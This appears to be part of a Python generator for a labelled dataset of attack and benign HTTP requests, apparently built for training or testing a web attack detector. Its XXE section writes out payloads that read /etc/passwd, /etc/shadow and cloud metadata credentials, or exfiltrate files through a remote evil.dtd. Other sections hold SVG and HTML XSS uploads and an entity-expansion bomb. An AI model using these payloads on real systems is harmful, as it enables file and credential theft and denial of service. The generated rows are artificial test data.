    return s if not inj.get("enc_brackets") else s.replace("[", "%5B").replace("]", "%5D")


def struct_op_pairs(name, opval, inj, r, where=False):
    op, val = opval
    if where:
        name = r.choice([name, "filter", "q"]) if r.random() < .5 else None
        if name is None:
            return ["%24where=" + enc_value(strval(val) if not isinstance(val, dict) else jdump(val), "browser") if inj.get("enc_brackets") else "$where=" + enc_value(strval(val) if not isinstance(val, dict) else jdump(val), "browser")]
    base = f"{name}[{op}]"
    if isinstance(val, list):
        return [_bk(f"{base}[]", inj) + "=" + enc_value(strval(x), "browser") for x in val]
    if isinstance(val, dict):
        out = []
        for k2, v2 in val.items():
            out.append(_bk(f"{base}[{k2}]", inj) + "=" + enc_value(strval(v2) if not isinstance(v2, (dict, list)) else jdump(v2), "browser"))
        return out
    v = "" if val is None else strval(val)
    return [_bk(base, inj) + "=" + enc_value(v, "browser")]


def proto_pairs(pv, inj, r):
    keys, val = pv
    v = enc_value(strval(val), "browser")
    if r.random() < .5:
        k = keys[0] + "".join(f"[{x}]" for x in keys[1:])
        return [_bk(k, inj) + "=" + v]
    return [encname(".".join(keys)) + "=" + v]


# ============================================================ attack rows

PATH_BIAS = {"traversal": 0.25, "crlf": 0.12, "sqli": 0.08, "jndi": 0.06, "ssti": 0.05, "xss": 0.05, "cmdi": 0.05, "ssrf": 0.04, "open_redirect": 0.05}
QSTYLES = ["browser", "browser", "pct", "raw", "raw", "rawplus", "full", "double", "unicode", "lowerhex", "all"]
JSTYLES = ["plain", "plain", "plain", "ascii", "stj", "uall"]


def pick_slot(r, meta, locs=None):
    kinds = meta.get("kinds")
    cands = []
    for ep in CATALOG:
        for s in slots_of(ep, r):
            if locs and s[0] not in locs:
                continue
            if s[2] == "bool":
                continue
            cands.append((ep, s))
    pref = [c for c in cands if kinds and c[1][2] in kinds]
    pool = pref if pref and r.random() < 0.75 else cands
    return r.choice(pool)


def attack_request(fam, r):
    tech, payload, meta = A.FAMILIES[fam](r)
    note = []
    if fam == "sqli" and r.random() < 0.4:
        payload, ob = A.sqli_obfuscate(r, payload)
        note.append("obf=" + ob)
    st = meta.get("struct")
    inj = {}
    if st in ("op", "where", "proto"):
        ep, (loc, key, kind) = pick_slot(r, meta, locs={"query", "form", "json", "graphql"})
        if ep.loc == "multipart":
            return None
        inj = {"loc": loc, "key": key, "value": payload, "struct": st, "enc_brackets": r.random() < .3}
        note.append("struct=" + st)
    elif st == "json_body":
        eps = [e for e in CATALOG if e.loc == "json"]
        ep = r.choice(eps)
        if r.random() < .5:
            inj = {"whole_body": payload, "ctype": JSONT}
            loc, key = "json", "(body)"
        else:
            _, leaves = fill(ep.body, r)
            path = r.choice(leaves)[0]
            inj = {"loc": "json", "key": path, "value": json.loads(payload), "struct": "json_value"}
            loc, key = "json", path
    elif st == "xml_body":
        ep = r.choice([e for e in CATALOG if e.loc in ("xml", "json")])
        inj = {"whole_body": payload, "ctype": r.choice(["application/xml", "text/xml"])}
        loc, key = "xml", "(body)"
    elif meta.get("viewstate"):
        ep = [e for e in CATALOG if e.path == "/Default.aspx"][0]
        loc, key = "query", "__VIEWSTATE"
        if r.random() < .6:  # WebForms postback: same fields in a form body
            ep = EP(ep.app, "POST", ep.path, "form", ep.params)
            loc = "form"
        inj = {"loc": loc, "key": key, "value": payload, "style": "browser"}
    elif fam in ("xss",) and r.random() < 0.04:
        ep = r.choice([e for e in CATALOG if e.loc == "multipart"])
        svg = r.choice(['<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"/>',
                        '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
                        '<svg xmlns="http://www.w3.org/2000/svg"><a xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="javascript:alert(1)"><rect width="100" height="100"/></a></svg>',
                        '<html><body><img src=x onerror=alert(1)></body></html>'])
        name = r.choice(["avatar.svg", "logo.svg", "x.svg", "invoice.html", "image.svg.png"])
        inj = {"loc": "form", "key": "file", "value": name, "file_content": svg}
        loc, key, tech = "form", "file(content)", "svg_upload"
    else:
        locs = {"path"} if r.random() < PATH_BIAS.get(fam, 0) else None
        ep, (loc, key, kind) = pick_slot(r, meta, locs=locs)
        pre = bool(meta.get("pre"))
        if loc in ("query", "form"):
            style = r.choice(["raw", "raw", "browser", "double"] if pre else QSTYLES)
            if ep.loc == "multipart":
                style = "raw"
        elif loc == "path":
            style = r.choice(["raw", "pct"] if pre else ["pct", "pct", "raw", "double"])
        elif loc in ("json", "graphql"):
            style = r.choice(JSTYLES)
        elif loc == "gqlinline":
            style = "plain"
        else:
            style = r.choice(["esc", "esc", "cdata"])
        inj = {"loc": loc, "key": key, "value": payload, "style": style, "pre": pre}
        note.append("enc=" + style)
    req = build(ep, r, inj)
    keyname = key if isinstance(key, str) else ".".join(map(str, key))
    note.insert(0, f"loc={loc}:{keyname}")
    return req, tech, ep.app, "; ".join(note)


# ---- XXE is built per XML document

def xxe_request(r):
    o = A.oast(r)
    xml_eps = [e for e in CATALOG if e.loc == "xml"]
    tgt = r.choice(["file:///etc/passwd", "file:///etc/hostname", "file:///c:/windows/win.ini", "file:///proc/self/environ",
                    "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "php://filter/convert.base64-encode/resource=/etc/passwd",
                    "expect://id", "file:///var/www/html/config.php", "netdoc:///etc/passwd", "jar:file:///tmp/x.zip!/a", f"http://{o}/x",
                    "file:///home/", "file:///etc/shadow", "http://127.0.0.1:8080/admin", "gopher://127.0.0.1:6379/_INFO"])
    ent = r.choice(["xxe", "x", "ent", "file", "foo", "test"])
    t = r.randrange(11)
    use_ent = True
    if t == 0:
        tech, dt = "external_entity", f'<!DOCTYPE {{root}} [<!ENTITY {ent} SYSTEM "{tgt}">]>'
    elif t == 1:
        tech, dt = "external_entity", f'<!DOCTYPE {{root}} [<!ELEMENT {{root}} ANY><!ENTITY {ent} SYSTEM "{tgt}">]>'
    elif t == 2:
        tech, dt = "public_id", f'<!DOCTYPE {{root}} [<!ENTITY {ent} PUBLIC "-//W3C//TEXT copyright//EN" "{tgt}">]>'
    elif t == 3:
        tech, dt, use_ent = "parameter_entity", f'<!DOCTYPE {{root}} [<!ENTITY % remote SYSTEM "http://{o}/evil.dtd">%remote;]>', False
    elif t == 4:
        tech, dt, use_ent = "oob_exfil", (f'<!DOCTYPE {{root}} [<!ENTITY % file SYSTEM "{r.choice(["file:///etc/hostname", "file:///etc/passwd", "php://filter/convert.base64-encode/resource=index.php"])}">'
                                          f'<!ENTITY % dtd SYSTEM "http://{o}/x.dtd">%dtd;%send;]>'), False
    elif t == 5:
        tech, dt, use_ent = "local_dtd_error", ('<!DOCTYPE {root} [<!ENTITY % local_dtd SYSTEM "file:///usr/share/yelp/dtd/docbookx.dtd">'
                                                '<!ENTITY % ISOamso \'<!ENTITY &#x25; file SYSTEM "file:///etc/passwd"><!ENTITY &#x25; eval "<!ENTITY &#x26;#x25; error SYSTEM &#x27;file:///nonexistent/&#x25;file;&#x27;>">&#x25;eval;&#x25;error;\'>%local_dtd;]>'), False
    elif t == 6:
        tech = "entity_expansion"
        dt = '<!DOCTYPE {root} [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">' + "".join(
            f'<!ENTITY lol{i} "' + f"&lol{i - 1};" * 10 + '">' for i in range(2, r.randint(4, 10))) + "]>"
        ent = "lol" + str(dt.count("<!ENTITY") - 1)
    elif t == 7:
        tech, dt, use_ent = "external_dtd", f'<!DOCTYPE {{root}} SYSTEM "http://{o}/{r.choice(["a.dtd", "schema.dtd", "x"])}">', False
    elif t == 8:
        tech = "xinclude"
        dt, use_ent = None, False
    elif t == 9:
        tech, dt = "utf16_declared", f'<!DOCTYPE {{root}} [<!ENTITY {ent} SYSTEM "{tgt}">]>'
    else:
        tech = "xml_in_parameter"
        dt = None
    if t == 10:  # XML smuggled into a form/query parameter
        doc = f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY {ent} SYSTEM "{tgt}">]><r><q>&{ent};</q></r>'
        ep = r.choice([e for e in CATALOG if e.loc in ("query", "form")])
        slot = r.choice([s for s in slots_of(ep, r) if s[0] in ("query", "form")])
        inj = {"loc": slot[0], "key": slot[1], "value": doc, "style": r.choice(["browser", "pct", "raw"]), "pre": False}
        return build(ep, r, inj), tech, ep.app, f"loc={slot[0]}:{slot[1]}"
    switch = r.random() < .15  # content-type switch on a JSON API
    if switch:
        ep = r.choice([e for e in CATALOG if e.loc == "json"])
        req = build(ep, r)
        root = r.choice(["root", "request", "data"])
        body = f'<?xml version="1.0"?>' + (dt.format(root=root) if dt else "") + f"<{root}><name>" + (f"&{ent};" if use_ent else "x") + f"</name></{root}>"
        if tech == "xinclude":
            body = f'<{root} xmlns:xi="http://www.w3.org/2001/XInclude"><name><xi:include parse="text" href="{tgt}"/></name></{root}>'
        req["body"], req["headers"] = body, {"Content-Type": r.choice(["application/xml", "text/xml"])}
        return req, tech, ep.app, "loc=body; content-type switched from JSON"
    ep = r.choice(xml_eps)
    slot = r.choice(list(ep.slots))
    if tech == "xinclude":
        val = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="{tgt}"/>'
        req = build(ep, r, {"loc": "xml", "key": slot, "value": val, "raw_xml": True})
        return req, tech, ep.app, f"loc=xml:{slot}"
    req = build(ep, r, {"loc": "xml", "key": slot, "value": f"&{ent};" if use_ent else xml_esc(B.gen(ep.slots[slot], r).__str__()), "raw_xml": True})
    body = req["body"]
    # root element name: first element after any prolog
    import re
    mm = re.search(r"<([A-Za-z_][\w:.-]*)", body.split("?>", 1)[1] if body.startswith("<?xml") else body)
    root = mm.group(1)
    d = dt.format(root=root)
    if body.startswith("<?xml"):
        decl, rest = body.split("?>", 1)
        if tech == "utf16_declared":
            decl = '<?xml version="1.0" encoding="UTF-16"'
        body = decl + "?>" + d + rest
    else:
        body = ('<?xml version="1.0" encoding="UTF-16"?>' if tech == "utf16_declared" else ('<?xml version="1.0"?>' if r.random() < .6 else "")) + d + body
    req["body"] = body
    return req, tech, ep.app, f"loc=xml:{slot}"


# ============================================================ benign rows

FREE_KINDS = {"search", "text", "comment", "note", "title", "post", "html", "bio", "name", "fullname", "addr", "city", "category", "tag", "coupon", "file", "dirpath", "url", "redirect", "callback"}
CAT_FOR_KIND = {
    "search": ["sql_words", "code_words", "apostrophes", "unicode", "math", "symbols"],
    "text": ["apostrophes", "sql_words", "unicode", "math", "markdown", "symbols", "contact", "code_words"],
    "comment": ["apostrophes", "sql_words", "unicode", "symbols"], "note": ["apostrophes", "sql_words", "contact", "unicode", "symbols", "dates"],
    "title": ["apostrophes", "sql_words", "code_words", "symbols", "unicode"], "post": ["markdown", "html_markup", "apostrophes", "sql_words", "math"],
    "html": ["html_markup"], "bio": ["unicode", "apostrophes", "urls", "symbols"], "name": ["apostrophes", "unicode"], "fullname": ["apostrophes", "unicode"],
    "addr": ["contact"], "city": ["apostrophes", "unicode"], "file": ["file_names"], "dirpath": ["file_names"], "url": ["urls"], "redirect": ["urls"],
    "callback": ["urls"], "category": ["symbols", "sql_words"], "tag": ["symbols"], "coupon": ["symbols"],
}
AMBIG_APPS = {"forum", "saas", "lms", "graphql", "admin"}


def extra_benign(r):
    """Benign shapes outside the catalogue: static files, well-known paths, API filter languages, tracking links."""
    t = r.randrange(12)
    if t == 0:
        p = r.choice(["/static/js/app.3f2a1c9b.min.js", "/assets/css/main.css?v=1.2.3", "/favicon.ico", "/robots.txt", "/.well-known/openid-configuration",
                      "/.well-known/security.txt", "/~alice/papers/thesis.v2.pdf", "/docs/v1.2.3/api.html", "/fonts/Inter-var.woff2", "/images/2024/03/hero@2x.webp",
                      "/sitemap.xml", "/apple-touch-icon.png", "/manifest.webmanifest", "/blog/feed.atom", "/files/2024/Q1/report.final.pdf",
                      "/de/produkte/k%C3%BCchen-messer", "/ja/%E8%A8%98%E4%BA%8B/%E6%9D%B1%E4%BA%AC", "/fr/cr%C3%A8me-br%C3%BBl%C3%A9e", "/u/o'brien", "/wiki/Rock_%27n%27_roll",
                      "/wiki/C%2B%2B", "/wiki/Union_Station_(Los_Angeles)", "/products/levi's-501", "/api/v1/users/me", "/healthz", "/.well-known/apple-app-site-association"])
        p, q = (p.split("?", 1) + [""])[:2]
        return {"method": "GET", "path": p, "query": q, "headers": {}, "body": ""}, "static_and_paths", r.choice(["shop", "cms", "docs", "wiki"])
    if t == 0 and r.random() < .35:  # APIs that take a whole path as one encoded segment (GitLab-style)
        proj = r.choice(["group%2Fproject", "acme%2Fplatform%2Fapi", "o-brien%2Fdotfiles", "team%2Fweb.site"])
        fp = r.choice(["src%2Fmain.c", "docs%2FREADME.md", ".github%2Fworkflows%2Fci.yml", "app%2Fmodels%2Fuser.rb", "config%2Fsettings.example.yaml"])
        return {"method": "GET", "path": f"/api/v4/projects/{proj}/repository/files/{fp}/raw", "query": "ref=" + r.choice(["main", "v1.2.3", "feature%2Flogin"]),
                "headers": {}, "body": ""}, "static_and_paths", "devtools"
    if t == 1:  # OData
        q = r.choice(["$filter=" + enc_value(r.choice(["Price gt 20 and Category eq 'Books'", "startswith(Name,'O''Brien')", "Status eq 'Open' or Status eq 'Pending'",
                                                        "year(OrderDate) eq 2024", "contains(Title,'select')", "Age ge 18 and Age le 65"]), "pct") + "&$orderby=" + enc_value(r.choice(["Name desc", "OrderDate", "Price asc,Name"]), "pct") + "&$top=" + str(r.randint(5, 100)),
                      "$select=Id,Name,Email&$expand=" + r.choice(["Orders", "Manager($select=Name)"]) + "&$count=true&$skip=" + str(r.randint(0, 200))])
        return {"method": "GET", "path": r.choice(["/odata/Products", "/odata/v4/Customers", "/api/data/v9.2/accounts", "/_api/web/lists"]), "query": q, "headers": {}, "body": ""}, "filters_odata", "erp"
    if t == 2:  # search DSLs
        q = r.choice(["q=" + enc_value(r.choice(["status:open label:\"good first issue\" sort:updated-desc", "title:(quick OR brown) AND status:published",
                                                   "author:\"O'Brien\" -draft", "is:pr is:merged review:approved", "created:>2024-01-01 language:C#",
                                                   "price:[10 TO 100] AND brand:\"Ben & Jerry's\"", "NOT spam AND (urgent OR p1)", "from:alice@example.com has:attachment"]), r.choice(["browser", "pct"]))])
        return {"method": "GET", "path": r.choice(["/search", "/issues", "/api/logs/search", "/mail/search"]), "query": q, "headers": {}, "body": ""}, "filters_search_dsl", r.choice(["saas", "search", "mail"])
    if t == 3:  # JSON:API / bracket filters
        parts = r.sample(["filter[status]=open", "filter[author.name]=" + enc_value(r.choice(B.LAST), "browser"), "page[number]=" + str(r.randint(1, 9)), "page[size]=25",
                          "include=author,comments", "fields[articles]=title,body", "sort=-created_at,title", "price[gte]=10", "price[lte]=" + str(r.randint(20, 900)),
                          "tags[]=red&tags[]=blue", "ids[]=" + str(r.randint(1, 999)) + "&ids[]=" + str(r.randint(1, 999)), "where[age][gt]=18", "range[created]=2024-01-01..2024-12-31"], r.randint(2, 5))
        return {"method": "GET", "path": r.choice(["/api/articles", "/api/v2/products", "/jsonapi/node/article", "/api/tickets"]), "query": "&".join(parts), "headers": {}, "body": ""}, "filters_brackets", r.choice(["cms", "shop", "saas"])
    if t == 4:  # tracking links
        q = "&".join(r.sample(["utm_source=newsletter", "utm_medium=email", "utm_campaign=" + enc_value(r.choice(["black-friday-2024", "spring sale", "Q&A webinar", "mother's day"]), "browser"),
                               "gclid=" + B.rstr(r, B.AN + "-_", 40), "fbclid=IwAR" + B.rstr(r, B.AN + "-_", 40), "mc_eid=" + B.rstr(r, B.HEX, 10), "_ga=2." + str(r.randint(10 ** 8, 10 ** 9)) + "." + str(r.randint(10 ** 8, 10 ** 9)),
                               "ref=" + B.gen("ref", r), "msclkid=" + B.rstr(r, B.HEX, 32), "yclid=" + str(r.randint(10 ** 15, 10 ** 16))], r.randint(2, 5)))
        return {"method": "GET", "path": r.choice(["/", "/landing/spring", "/products/summer-dress", "/pricing", "/blog/why-we-moved-to-rust"]), "query": q, "headers": {}, "body": ""}, "tracking", r.choice(["shop", "saas", "cms"])
    if t == 5:  # analytics beacon
        body = jdump({"v": 2, "events": [{"t": "pageview", "url": B.url(r), "title": r.choice(B.POST_TITLES), "ref": B.gen("referer", r), "sw": 1920, "sh": 1080,
                                          "lang": B.gen("lang", r), "ts": B.datetime(r)}]}, "plain", True)
        return {"method": "POST", "path": r.choice(["/collect", "/api/event", "/t", "/beacon"]), "query": "", "headers": {"Content-Type": r.choice(["text/plain;charset=UTF-8", JSONT])}, "body": body}, "json_api", "analytics"
    if t == 6:  # CSP / error reports
        body = jdump({"csp-report": {"document-uri": B.url(r), "violated-directive": "script-src-elem", "blocked-uri": r.choice(["inline", "eval", "https://cdn.example.org/lib.js"]),
                                     "source-file": B.url(r), "line-number": r.randint(1, 900)}}, "plain", False)
        return {"method": "POST", "path": "/csp-report", "query": "", "headers": {"Content-Type": "application/csp-report"}, "body": body}, "json_api", "saas"
    if t == 7:  # batch JSON with unicode and numbers
        body = jdump({"items": [{"sku": B.gen("sku", r), "name": r.choice(B.PRODUCTS), "qty": r.randint(1, 5), "price": round(r.uniform(1, 300), 2), "gift": r.choice([True, False, None])} for _ in range(r.randint(1, 4))],
                      "customer": {"name": B.gen("fullname", r), "locale": B.gen("lang", r)}, "meta": {"emoji": "🎁", "notes": r.choice(B.REVIEWS)}}, r.choice(["plain", "ascii", "stj"]), r.random() < .5)
        return {"method": "POST", "path": "/api/v1/orders", "query": "", "headers": {"Content-Type": JSONT}, "body": body}, "json_api", "shop"
    if t == 8:  # form with many tricky fields
        fields = [("first_name", r.choice(B.FIRST)), ("last_name", r.choice(B.LAST)), ("company", r.choice(["AT&T", "Procter & Gamble", "O'Reilly Media", "Toys\"R\"Us", "Ben & Jerry's", "Müller GmbH"])),
                  ("address", r.choice(B.STREETS)), ("phone", B.phone(r)), ("message", r.choice(B.REVIEWS + B.TRICKY_SQLISH))]
        return {"method": "POST", "path": r.choice(["/contact", "/quote/request", "/support/ticket"]), "query": "", "headers": {"Content-Type": FORM},
                "body": "&".join(f"{n}={enc_value(v, 'browser')}" for n, v in fields)}, "apostrophes", r.choice(["cms", "shop", "saas"])
    if t == 9:  # GraphQL with inline literals
        term = r.choice(B.SEARCHES + B.TRICKY_SQLISH)
        q = f'{{ search(term: {json.dumps(term, ensure_ascii=False)}, first: {r.randint(5, 50)}) {{ ... on Product {{ id name }} ... on Article {{ id title }} }} }}'
        return {"method": "POST", "path": "/graphql", "query": "", "headers": {"Content-Type": JSONT}, "body": jdump({"query": q}, "plain", True)}, "graphql", "graphql"
    if t == 10:  # GET graphql persisted query
        v = jdump({"id": B.uuid4(r), "first": r.randint(5, 30)}, "plain", True)
        ext = jdump({"persistedQuery": {"version": 1, "sha256Hash": B.gen("hash", r)}}, "plain", True)
        return {"method": "GET", "path": "/graphql", "query": f"operationName=Feed&variables={enc_value(v, 'pct')}&extensions={enc_value(ext, 'pct')}", "headers": {}, "body": ""}, "graphql", "graphql"
    # settings with internal-looking but legitimate values (router LAN config)
    body = "&".join([f"lan_ip={r.choice(['192.168.1.1', '192.168.0.1', '10.0.0.1'])}", "lan_mask=255.255.255.0", f"dhcp_start={r.choice(['192.168.1.100', '10.0.0.50'])}",
                     f"dhcp_end={r.choice(['192.168.1.200', '10.0.0.150'])}", f"dns1={r.choice(['1.1.1.1', '8.8.8.8', '9.9.9.9'])}", f"hostname={enc_value(r.choice(['my-router', 'Home WiFi', 'Büro-AP']), 'browser')}"])
    return {"method": "POST", "path": r.choice(["/goform/setLan", "/cgi-bin/luci/admin/network/lan", "/apply.cgi"]), "query": "", "headers": {"Content-Type": FORM}, "body": body}, "router_lan_settings", "router"


AMBIG_EXTRA = [
    ("GET", "/api/articles", "filters[title][$contains]={v}&filters[publishedAt][$gte]=2024-01-01&sort=publishedAt:desc", "strapi_operators"),
    ("GET", "/api/products", "filters[price][$lt]={n}&filters[category][slug][$eq]=shoes&pagination[page]=1", "strapi_operators"),
    ("GET", "/api/items", "where[status][$in][]=open&where[status][$in][]=pending&$limit=25", "feathers_operators"),
]


def ambiguous_request(r):
    if r.random() < .2:
        m_, p, q, tech = r.choice(AMBIG_EXTRA)
        q = q.replace("{v}", enc_value(r.choice(["hello", "o'brien", "release notes", "café"]), "pct")).replace("{n}", str(r.randint(10, 500)))
        return {"method": m_, "path": p, "query": q, "headers": {}, "body": ""}, "cms", "operator filters documented by the API framework (" + tech + ")"
    if r.random() < .1:
        body = jdump({"url": r.choice(["http://localhost:3000/webhooks", "http://127.0.0.1:8080/hook", "http://host.docker.internal:5000/cb"]),
                      "events": ["push"], "active": True, "description": "local dev tunnel"}, "plain", True)
        return {"method": "POST", "path": "/api/v1/dev/webhooks/test", "query": "", "headers": {"Content-Type": JSONT}, "body": body}, "saas", "developer points a test webhook at a local server"
    eps = [e for e in CATALOG if e.app in AMBIG_APPS]
    while True:
        ep = r.choice(eps)
        ss = [s for s in slots_of(ep, r) if s[2] in ("post", "text", "title", "search", "note", "comment", "bio") and s[0] != "path"]
        if ss:
            break
    loc, key, kind = r.choice(ss)
    val = B.ambiguous(r)
    if loc in ("json", "graphql"):
        inj = {"loc": loc, "key": key, "value": val, "style": "plain"}
    elif loc == "xml":
        inj = {"loc": loc, "key": key, "value": val, "style": "esc"}
    else:
        inj = {"loc": loc, "key": key, "value": val, "style": "browser"}
    return build(ep, r, inj, benign_style="browser"), ep.app, "developer discussion quoting code (loc=%s:%s)" % (loc, key if isinstance(key, str) else ".".join(map(str, key)))


def benign_request(r):
    if r.random() < 0.18:
        req, tech, app = extra_benign(r)
        return req, tech, app, "extra shape"
    ep = r.choices(CATALOG, weights=[e.weight for e in CATALOG])[0]
    ss = slots_of(ep, r)
    free = [s for s in ss if s[2] in CAT_FOR_KIND and s[0] != "path"]
    if free and r.random() < 0.7:
        loc, key, kind = r.choice(free)
        cat = r.choice(CAT_FOR_KIND[kind])
        val, tech = B.tricky(cat, r)
        if loc in ("json", "graphql"):
            inj = {"loc": loc, "key": key, "value": val, "style": r.choice(["plain", "plain", "ascii"])}
        elif loc == "xml":
            inj = {"loc": loc, "key": key, "value": val, "style": "esc"}
        else:
            inj = {"loc": loc, "key": key, "value": val, "style": r.choice(["browser", "browser", "pct"])}
        keyname = key if isinstance(key, str) else ".".join(map(str, key))
        return build(ep, r, inj), tech, ep.app, f"loc={loc}:{keyname}"
    return build(ep, r), "plain_" + ep.loc, ep.app, ""


# ============================================================ main

def row(req, label, family, technique, app, note):
    d = dict(req)
    d.update({"label": label, "family": family, "technique": technique, "app": app, "note": note})
    return d


def generate(seed=SEED):
    rows, seen = [], set()

    def add(d):
        k = (d["method"], d["path"], d["query"], d["body"])
        if k in seen:
            return False
        seen.add(k)
        rows.append(d)
        return True

    for fam, n in QUOTA.items():
        r = random.Random(f"{seed}:{fam}")
        got, tries = 0, 0
        while got < n and tries < n * 50:
            tries += 1
            res = xxe_request(r) if fam == "xxe" else attack_request(fam, r)
            if res is None:
                continue
            req, tech, app, note = res
            got += add(row(req, 1, fam, tech, app, note))
    r = random.Random(f"{seed}:ambiguous")
    got = 0
    while got < AMBIGUOUS_QUOTA:
        req, app, note = ambiguous_request(r)
        got += add(row(req, 0, "benign", "ambiguous", app, note))
    r = random.Random(f"{seed}:benign")
    got = 0
    while got < BENIGN_QUOTA:
        req, tech, app, note = benign_request(r)
        got += add(row(req, 0, "benign", tech, app, note))
    random.Random(f"{seed}:order").shuffle(rows)
    return rows


def dumps_line(d):
    """One JSONL line; Unicode line separators are escaped so that any line splitter sees one line per row."""
    s = json.dumps(d, ensure_ascii=False)
    for ch in ("\u2028", "\u2029", "\x85", "\x1c", "\x1d", "\x1e", "\x0b", "\x0c"):
        s = s.replace(ch, "\\u%04x" % ord(ch))
    return s + "\n"


def write(rows, out):
    os.makedirs(os.path.dirname(os.path.abspath(out)), exist_ok=True)
    with open(out, "w", encoding="utf-8", newline="\n") as f:
        for d in rows:
            f.write(dumps_line(d))


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--out", default=DEFAULT_OUT)
    ap.add_argument("--seed", type=int, default=SEED)
    a = ap.parse_args()
    rows = generate(a.seed)
    write(rows, a.out)
    print(f"wrote {len(rows)} rows to {a.out}", file=sys.stderr)


if __name__ == "__main__":
    main()
